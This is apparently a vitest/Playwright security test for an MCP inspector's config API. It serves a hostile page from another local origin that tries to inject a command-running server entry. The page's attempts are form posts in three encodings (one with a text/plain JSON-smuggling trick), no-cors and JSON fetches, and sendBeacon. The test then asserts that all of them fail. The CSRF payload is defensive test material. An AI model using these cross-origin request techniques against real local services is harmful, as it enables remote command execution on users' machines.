/// <reference lib="dom" />
// Another local web page against the page's config editing (issue 55), in headless Chromium: a page
// of another origin on this machine (another 127.0.0.1 port, and `localhost` under another port)
// that even knows the inspector's token tries every way a browser lets a page send a request
// elsewhere: form posts (text/plain, urlencoded, multipart) into a hidden frame, fetch in no-cors
// mode, fetch with a JSON body (a preflight), sendBeacon. None reaches /api/config/*: the user's
// config file stays as it was and the command of the entry never runs (it would write a marker).
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { MCPManager } from "@mcp/manager";
import { chromium, type Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startInspector, type Inspector } from "../src/index.js";

const CHROMIUM = process.env["CHROMIUM_PATH"] ?? "/usr/bin/chromium";

const dir = mkdtempSync(join(tmpdir(), "inspector-config-csrf-"));
const file = join(dir, "mcp-client.json");
/** Written only if the intruder's entry ever runs. */
const marker = join(dir, "intruder-ran");
const original = `{\n  "servers": {}\n}\n`;
const manager = new MCPManager({ cache: false, pins: false });
let inspector: Inspector;
let browser: Browser;
let hostile: Server;
let hostilePort = 0;
/** Requests the hostile page's server saw (the page reports each attempt's end here). */
const reports: string[] = [];

/** The hostile page: every attempt, each reported to its own server when done. */
function hostilePage(target: string, token: string): string {
  const entry = {
    command: process.execPath,
    args: ["-e", `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "ran")`],
  };
  const body = JSON.stringify({ name: "intruder", config: entry });
  const urls = ["/api/config/save", "/api/config/remove", "/api/config/servers"].map(
    (path) => `${target}${path}?token=${token}`,
  );
  return `<!doctype html><html><body><script>
const urls = ${JSON.stringify(urls)};
const body = ${JSON.stringify(body)};
const report = (what) => fetch("/report?" + new URLSearchParams({ what }));
function post(url, enctype, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random().toString(16).slice(2);
    frame.onload = () => resolve();
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.action = url;
    form.enctype = enctype;
    form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.type = "hidden";
      input.name = name;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  });
}
(async () => {
  // text/plain: the body reads as JSON ({"name":"intruder",...,"x":"="}).
  const trick = { [body.slice(0, -1) + ',"x":"']: '"}' };
  for (const url of urls) {
    await post(url, "text/plain", trick);
    await post(url, "application/x-www-form-urlencoded", { name: "intruder", config: body });
    await post(url, "multipart/form-data", { name: "intruder", config: body });
    await fetch(url, { method: "POST", mode: "no-cors", body }).catch(() => undefined);
    await fetch(url, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body }).catch(() => undefined);
    const read = await fetch(url, { method: "POST", headers: { "content-type": "application/json", "x-inspector-token": ${JSON.stringify(token)} }, body })
      .then((r) => r.text()).catch((e) => "failed: " + e.message);
    if (read.includes("servers")) await report("read " + read);
    navigator.sendBeacon(url, body);
    navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
  }
  await report("done");
})();
</script></body></html>`;
}

beforeAll(async () => {
  writeFileSync(file, original);
  inspector = await startInspector(manager, { config: { file } });
  hostile = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    if (url.pathname === "/report") {
      reports.push(url.searchParams.get("what") ?? "");
      return void res.writeHead(204).end();
    }
    const target = url.searchParams.get("target") ?? "";
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    res.end(hostilePage(target, inspector.token));
  });
  await new Promise<void>((resolve) => hostile.listen(0, "127.0.0.1", resolve));
  hostilePort = (hostile.address() as AddressInfo).port;
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
  });
});

afterAll(async () => {
  await browser?.close();
  await inspector?.close();
  await manager.disconnectAll();
  await new Promise<void>((resolve) => (hostile ? hostile.close(() => resolve()) : resolve()));
  rmSync(dir, { recursive: true, force: true });
});

describe("another local page against /api/config/*", () => {
  it("gets nothing through, token known or not: the file unchanged, the entry never run, nothing read", async () => {
    const page = await browser.newPage();
    const targets = [`http://127.0.0.1:${inspector.port}`, `http://localhost:${inspector.port}`];
    for (const [origin, target] of [
      [`http://127.0.0.1:${hostilePort}`, targets[0]],
      [`http://localhost:${hostilePort}`, targets[1]],
      [`http://localhost:${hostilePort}`, targets[0]],
    ] as const) {
      const done = reports.length;
      await page.goto(`${origin}/?target=${encodeURIComponent(target!)}`);
      await expect.poll(() => reports.slice(done), { timeout: 60_000 }).toContain("done");
      expect(reports.slice(done)).toEqual(["done"]);
    }
    expect(readFileSync(file, "utf8")).toBe(original);
    // The API did answer the inspector's own page all along (the attempts were refused, not unheard).
    const own = await browser.newPage();
    await own.goto(inspector.url);
    const listed = await own.evaluate(
      async ([port, token]) =>
        (
          await fetch(`http://127.0.0.1:${port}/api/config/servers`, {
            method: "POST",
            headers: { "content-type": "application/json", "x-inspector-token": token },
            body: "{}",
          })
        ).status,
      [inspector.port, inspector.token] as const,
    );
    expect(listed).toBe(200);
    expect(manager.getConnectionStatus("intruder")).toBeUndefined();
    expect(existsSync(marker)).toBe(false);
  }, 120_000);
});
